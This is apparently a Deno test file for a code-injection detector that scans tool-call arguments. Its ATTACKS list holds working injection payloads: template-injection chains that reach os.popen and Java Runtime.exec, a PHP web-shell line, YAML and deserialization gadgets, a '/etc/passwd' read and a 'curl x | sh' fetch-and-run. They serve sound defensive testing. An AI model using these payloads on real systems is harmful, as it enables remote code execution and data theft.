import assert from "node:assert/strict";
import type { FieldContext } from "../types.ts";
import { codeInjectionDetector, CodeInjectionOptionsSchema } from "./code_injection.ts";

const opts = CodeInjectionOptionsSchema.parse({});
const at = (key?: string): FieldContext => ({
  stage: "input",
  path: `$.arguments.${key ?? "x"}`,
  key,
});

const ATTACKS: [string, string, string][] = [
  // [key, value, expected kind]
  ["template", "Hello {{ ''.__class__.__mro__[1].__subclasses__() }}", "ssti_introspection"],
  [
    "body",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "ssti_introspection",
  ],
  [
    "text",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "ssti_introspection",
  ],
  ["message", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "ssti_introspection"],
  ["template", "{{ config.items() }}", "ssti_config"],
  ["tpl", "{{self._TemplateReference__context}}", "ssti_config"],
  ["query", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti_java"],
  ["name", "#{''.getClass().forName('java.lang.Runtime')}", "ssti_java"],
  ["template", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "ssti_java"],
  ["comment", "<%= system('cat /etc/passwd') %>", "ssti_erb"],
  ["template", "{{7*7}}", "template_probe"],
  ["expr", "${1337+1}", "template_probe"],
  ["expression", "__import__('os').listdir('/')", "python_exec"],
  ["notes", "__import__('os').system('curl x | sh')", "python_exec_chain"],
  ["code", "import subprocess; subprocess.check_output(['id'])", "python_exec"],
  ["code", "eval(base64.b64decode('cHJpbnQoMSk='))", "python_eval"],
  ["script", "require('child_process').exec('id')", "js_exec"],
  ["input", "this.constructor.constructor('return process')().mainModule", "js_exec_chain"],
  ["x", 'Runtime.getRuntime().exec("calc")', "java_exec"],
  ["content", "<?php system($_GET['c']); ?>", "php_exec"],
  ["yaml", "!!python/object/apply:os.system ['id']", "yaml_language_tag"],
  ["config", "x: !!python/object/new:subprocess.Popen [['ls']]", "yaml_language_tag"],
  ["doc", "a: !<tag:yaml.org,2002:js/function> 'function(){}'", "yaml_language_tag"],
  ["data", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "java_serialized"],
  ["blob", "aced00057372001b6a6176612e", "java_serialized"],
  [
    "value",
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    "dotnet_serialized",
  ],
  ["state", 'O:8:"Example1":1:{s:4:"file";s:9:"/tmp/x";}', "php_serialized"],
  ["pickle", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "pickle"],
  [
    "payload",
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    "node_serialize",
  ],
];

const BENIGN: [string, string][] = [
  ["template", "Hello {{ name }}, your order {{ order.id }} has shipped."],
  ["template", "{{#each items}}<li>{{this}}</li>{{/each}}"],
  ["body", "{% if user.is_admin %}Admin{% endif %}"],
  ["path", "${HOME}/projects/app"],
  ["query", "os.system("], // a code search for the call itself
  ["query", "how does __import__ work in python"],
  ["text", "Use subprocess.run(['ls']) instead of os.system in your scripts."],
  ["yaml", "name: app\nversion: 1\nflag: !!str yes\nlist: !!seq [a, b]"],
  ["message", "The price is ${price} and the total is {{ total }}"],
  [
    "data",
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  ],
  ["code", "function add(a, b) { return a + b; }"],
  ["code", "const total = items.reduce((s, x) => s + x.price, 0);"],
  ["description", "Supports Jinja templates such as {{ user.name | upper }}."],
  ["text", "Call Runtime.getRuntime() to read memory stats"],
  ["expression", "price * quantity + shipping"],
  ["formula", "=SUM(A1:A10)"],
  ["content", "<% if (loggedIn) { %>Welcome<% } %>"],
  ["text", "ORDER-7*7 is not a template"],
  ["comment", "See docs at https://example.com/{{version}}/guide"],
  ["query", "pickle protocol 5 out-of-band buffers"],
];

Deno.test("codeInjectionDetector flags template, code-execution and deserialization payloads", () => {
  for (const [key, value, kind] of ATTACKS) {
    const f = codeInjectionDetector.scan(value, at(key), opts);
    assert.ok(
      f.some((x) => x.kind === kind),
      `expected ${kind} for ${key}=${value} (got ${f.map((x) => x.kind).join(",") || "none"})`,
    );
    assert.ok(f.every((x) => !x.reason.includes(value)), "reason must not echo the value");
  }
});

Deno.test("codeInjectionDetector passes benign templates, code and prose", () => {
  for (const [key, value] of BENIGN) {
    const f = codeInjectionDetector.scan(value, at(key), opts).filter((x) => x.severity !== "low");
    assert.deepEqual(f.map((x) => x.kind), [], `false positive for ${key}=${value}`);
  }
});

Deno.test("codeInjectionDetector: strict_keys widens the strict set; flag_probes can be turned off", () => {
  const o = CodeInjectionOptionsSchema.parse({ strict_keys: ["recipe"], flag_probes: false });
  assert.ok(codeInjectionDetector.scan("{{ config.items() }}", at("recipe"), o).length > 0);
  assert.equal(codeInjectionDetector.scan("{{7*7}}", at("template"), o).length, 0);
  assert.equal(
    codeInjectionDetector.scan("x".repeat(100_000) + "{{", at("template"), opts).length,
    0,
  );
});
